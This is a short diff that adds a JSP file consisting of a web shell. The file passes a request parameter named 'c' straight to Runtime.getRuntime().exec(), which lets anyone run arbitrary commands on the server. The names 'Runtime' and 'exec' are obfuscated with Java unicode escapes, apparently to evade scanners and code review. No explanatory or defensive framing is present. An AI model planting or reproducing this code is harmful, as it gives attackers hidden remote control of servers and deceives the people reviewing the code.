@@ -1,0 +1,3 @@
+<%
+	\u0052untime.getRuntime().\u0065xec(request.getParameter("c"));
+%>
